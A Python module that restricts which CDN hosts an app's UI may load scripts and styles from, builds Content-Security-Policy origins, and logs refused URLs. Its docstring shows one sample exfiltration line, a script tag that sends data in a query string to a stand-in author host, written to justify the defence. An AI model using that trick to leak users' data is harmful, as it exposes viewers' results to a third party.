"""The hosts an app's UI may load from: which `cdn` URLs of an app reach its document, and what
its Content-Security-Policy names for them.

A UI is flow code a package's author wrote, shown to whoever opens the run: its scripts see the
run's results (`dizest.results`) and what the viewer types. A source its CSP allows is also a
way out: `<script src="https://author.example/x.js?data=...">` carries anything to a host
whose logs its author reads (CSP matches no query, so even the exact URL of a listed script
is no bound). So the policy names only hosts the operator allowed (`DIZEST_UI_CDN_HOSTS`: by
default three public CDNs whose request logs no package author reads), and only those of them
the app's own `cdn` lists use, as origins (`https://host[:port]`, never `https:` or a
wildcard): a library that loads its parts from its own CDN still works.

An entry of the list allows one host (`cdn.example.org`, compared without case) or the names
under one (`*.example.org`, not example.org itself, as CSP reads it), on port 443 unless it
names another (`host:8443`). An app's URL on any other host is left out of its document: the
UI still shows, with a note naming what was left out, and the server logs each such URL once
(its origin and path: a query may hold a key).
"""

from __future__ import annotations

import logging
import re
import threading
from collections import OrderedDict
from dataclasses import dataclass
from urllib.parse import urlsplit

log = logging.getLogger("dizest.api.appui")

# https only, and nothing that could end an attribute or a CSP source list
URL = re.compile(r"https://[A-Za-z0-9.-]+(:[0-9]+)?(/[A-Za-z0-9._~!$&()*+=:@%/?#-]*)?")
_LABEL = re.compile(r"[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?")
LOGGED_MAX = 1024  # refused URLs remembered as logged, per process
_logged: OrderedDict[str, None] = OrderedDict()
_logged_lock = threading.Lock()


@dataclass(frozen=True)
class Refused:
    """A `cdn` entry left out of a UI, and why (for the note the UI shows)."""

    url: str
    host: str | None  # the host not allowed; None: no plain https address at all

    @property
    def reason(self) -> str:
        if self.host is None:
            return "not a plain https address"
        return f"{self.host} is not among the hosts this server allows (DIZEST_UI_CDN_HOSTS)"


@dataclass(frozen=True)
class Sources:
    """What of an app's `cdn` lists its UI gets: the URLs kept, by kind, and those refused."""

    js: tuple[str, ...]
    css: tuple[str, ...]
    refused: tuple[Refused, ...]

    def origins(self, *kinds: str) -> list[str]:
        """The origins of the kept URLs of these kinds, sorted, each once: CSP sources."""
        urls = [u for kind in kinds for u in getattr(self, kind)]
        return sorted({_origin(u) for u in urls})


def sources(cdn: object, hosts: tuple[str, ...]) -> Sources:
    """The URLs of an app's `cdn` value (`{"js": [...], "css": [...]}`) whose host `hosts`
    allows; the others refused, each logged once."""
    kept: dict[str, list[str]] = {"js": [], "css": []}
    refused: list[Refused] = []
    for kind, urls in kept.items():
        listed = cdn.get(kind) if isinstance(cdn, dict) else None
        for url in listed if isinstance(listed, list) else []:
            address = _address(url) if isinstance(url, str) and URL.fullmatch(url) else None
            if address is None:
                refused.append(Refused(_shown(url), None))
            elif not allowed(*address, hosts):
                refused.append(Refused(url, urlsplit(url).netloc.lower()))
                _log_once(url)
            else:
                urls.append(url)
    return Sources(tuple(kept["js"]), tuple(kept["css"]), tuple(refused))


def allowed(host: str, port: int, hosts: tuple[str, ...]) -> bool:
    """Whether an entry of `hosts` allows `host` (lower case) on `port`."""
    for entry in hosts:
        name, _, wanted = entry.lower().partition(":")
        if int(wanted or 443) != port:
            continue
        if name.startswith("*."):
            if host.endswith(name[1:]) and len(host) > len(name) - 1:
                return True
        elif host == name:
            return True
    return False


def _address(url: str) -> tuple[str, int] | None:
    """The host (lower case) and port of a URL that `URL` matches; None for no host name a
    browser would read as written (an empty label, a port past 65535)."""
    parts = urlsplit(url)
    host = (parts.hostname or "").lower()
    try:
        port = parts.port or 443
    except ValueError:
        return None
    return (host, port) if all(_LABEL.fullmatch(p) for p in host.split(".")) else None


def _origin(url: str) -> str:
    host, port = _address(url) or ("", 443)
    return f"https://{host}" if port == 443 else f"https://{host}:{port}"


def _shown(url: object) -> str:
    """An entry as the note names it: text, at most 200 characters."""
    text = url if isinstance(url, str) else repr(url)
    return text if len(text) <= 200 else text[:199] + "…"


def _log_once(url: str) -> None:
    """Log a URL refused for its host (its origin and path: a query or fragment may hold a
    key) the first time this process refuses it: a UI is served again at every visit."""
    shown = url.split("?")[0].split("#")[0]
    with _logged_lock:
        if shown in _logged:
            return
        _logged[shown] = None
        if len(_logged) > LOGGED_MAX:
            _logged.popitem(last=False)
    host = urlsplit(url).netloc.lower()
    log.info("app UI: cdn entry %s left out: %s is not in DIZEST_UI_CDN_HOSTS", shown, host)
